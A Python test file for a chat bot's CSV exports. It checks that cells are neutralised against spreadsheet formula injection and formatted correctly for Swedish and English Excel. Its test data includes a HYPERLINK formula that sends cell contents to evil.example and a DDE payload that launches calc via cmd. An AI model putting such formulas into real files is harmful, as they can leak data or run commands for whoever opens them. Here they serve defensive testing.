"""No CSV Digilog writes holds a formula: `bank export`, `mydata` and the report's tables,
with a participant named as an attacker would be and reflections that start like one."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from handlers import report
from handlers.core.csv_cells import FORMULA_STARTS, PLAIN_NUMBER, neutralised, writer
from handlers.core.i18n import translator
from handlers.core.programme_file import Programme
from handlers.core.vocabulary import Actor, FileMessage
from handlers.digilog import Digilog
from storage.models import Role
from storage.unit import Store
from tests.chat import Chat
from tests.conftest import ROOT, make_cohort
from tests.excel import is_number, open_as_excel, records_as_excel

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
# (A reflection's leading tab or carriage return is trimmed when it is saved; the
# property below covers those two.)
HOSTILE_TEXTS = ("=1+2", "+SUM(A1:A3)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)")
PEOPLE = (
    ("fia", "Fia Facilitator", "region-vasterbotten", Role.facilitator),
    ("anna", HOSTILE_NAME, "umea", Role.participant),
)


class HostileChat(Chat):
    """As Slack or Teams would report Anna: by the display name she chose."""

    def actor(self, user: str) -> Actor:
        actor = super().actor(user)
        return replace(actor, display_name=HOSTILE_NAME) if user == "anna" else actor


def cells(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    return [cell for row in rows for cell in row]


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)


def files_in(reply_outgoing: list[object]) -> list[FileMessage]:
    return [o.message for o in reply_outgoing if isinstance(o.message, FileMessage)]  # type: ignore[attr-defined]


async def test_no_export_cell_is_a_formula(
    store: Store, programme: Programme, digilog: Digilog
) -> None:
    cohort = await make_cohort(store, programme, people=PEOPLE)
    chat = HostileChat(digilog, cohort)
    await chat.say("fia", "theme start 1")
    for text in HOSTILE_TEXTS:
        await chat.post("anna", 1, text)
    await chat.say("anna", "reflect --private =PRIVAT()")

    written: dict[str, str] = {}
    for user, command in (("fia", "export csv"), ("anna", "mydata")):
        for file in files_in((await chat.say(user, command)).outgoing):
            if file.filename.endswith(".csv"):
                written[f"{command}: {file.filename}"] = file.content.decode("utf-8-sig")
            elif file.filename.endswith(".zip"):
                with zipfile.ZipFile(io.BytesIO(file.content)) as archive:
                    for name in archive.namelist():
                        if name.endswith(".csv"):
                            written[f"{command}: {name}"] = archive.read(name).decode("utf-8-sig")
    # The report's tables, as `digilog report` writes them.
    async with store.transaction() as repos:
        found = await report.figures(repos, cohort, translator("en"))
    for name, content, _ in report.files(translator("en"), found):
        if isinstance(content, str):
            written[f"report: {name}"] = content
    assert any(c.startswith("export") for c in written), written.keys()
    assert any(c.startswith("mydata") for c in written), written.keys()
    assert any(c.startswith("report") for c in written), written.keys()
    every_cell = [cell for text in written.values() for cell in cells(text)]
    assert [c for c in every_cell if dangerous(c)] == []
    # Neutralised, not lost: the apostrophe in front, the rest as written.
    assert "'" + HOSTILE_NAME in every_cell
    for text in HOSTILE_TEXTS:
        assert "'" + text in every_cell, text


@given(st.text(max_size=30))
def test_a_neutralised_cell_never_starts_a_formula(value: str) -> None:
    out = io.StringIO()
    writer(out, "en").writerow([value])
    (cell,) = cells(out.getvalue()) or [""]
    assert not dangerous(cell)
    assert cell in (value, "'" + value)
    assert neutralised(-3) == -3 and neutralised("-0.125") == "-0.125"


def test_every_csv_is_written_through_the_one_helper() -> None:
    for path in [*ROOT.glob("handlers/*.py"), *ROOT.glob("bot/**/*.py")]:
        if path.name != "csv_cells.py":
            source = path.read_text(encoding="utf-8")
            assert "csv.writer(" not in source and "DictWriter" not in source, Path(path).name


def test_decimals_and_separators_follow_the_sheet() -> None:
    swedish, english = io.StringIO(), io.StringIO()
    writer(swedish, "sv").writerow(["Umeå kommun", 3.125, -0.5, 6])
    writer(english, "en").writerow(["Umeå kommun", 3.125, -0.5, 6])
    assert swedish.getvalue() == "\ufeffUmeå kommun;3,125;-0,5;6\r\n"
    assert english.getvalue() == "\ufeffUmeå kommun,3.125,-0.5,6\r\n"
    excel = io.StringIO()
    writer(excel, "en", excel=True).writerow(["a", 0.5])
    assert excel.getvalue() == "\ufeffa;0,5\r\n"


def csv_files(outgoing: list[object]) -> dict[str, bytes]:
    """The CSV files sent, and those inside a sent .zip, by name."""
    found: dict[str, bytes] = {}
    for file in files_in(outgoing):
        if file.filename.endswith(".csv"):
            found[file.filename] = file.content
        elif file.filename.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(file.content)) as archive:
                found |= {n: archive.read(n) for n in archive.namelist() if n.endswith(".csv")}
    return found


async def test_every_export_opens_in_swedish_excel(
    store: Store, programme: Programme, digilog: Digilog
) -> None:
    """`export csv`, `mydata` and the report, for a Swede: the mark, `;`, decimal commas
    and the columns in Swedish, the same name for the same column in every file."""
    cohort = await make_cohort(store, programme, people=PEOPLE, language="sv")
    chat = Chat(digilog, cohort)
    await chat.say("fia", "theme start 1")
    await chat.post("anna", 1, "Vi provade, och det gick; bra.")
    written: dict[str, bytes] = {}
    for user, command in (("fia", "exportera csv"), ("anna", "mina data")):
        written.update(csv_files((await chat.say(user, command)).outgoing))
    t = translator("sv")
    async with store.transaction() as repos:
        found = await report.figures(repos, cohort, t)
    for name, content, _ in report.files(t, found):
        if isinstance(content, str):
            written[f"report/{name}"] = content.encode("utf-8")
    assert "digilog-grupp-1-reflections.csv" in written and "reflections.csv" in written
    assert "report/report.csv" in written
    heads = {}
    for name, content in written.items():
        head, *rows = open_as_excel(content, "sv")
        heads[name] = head
        for row in rows:
            for cell in row:
                if re.fullmatch(r"-?\d+[.,]\d+", cell):
                    assert is_number(cell, "sv"), (name, cell)
    bank = records_as_excel(written["digilog-grupp-1-reflections.csv"], "sv")
    assert bank[0]["Text"] == "Vi provade, och det gick; bra."
    bank_columns = set(heads["digilog-grupp-1-reflections.csv"])
    assert {"Skribent", "Organisation", "Tema", "Skapad"} <= bank_columns
    assert {"Deltagargrupp", "Tema", "Text", "Skapad"} <= set(heads["reflections.csv"])
    assert heads["report/report.csv"][:3] == ["Tema", "Organisation", "Deltagare"]
    english = [h for head in heads.values() for h in head if h in ("created_at", "theme", "body")]
    assert english == []
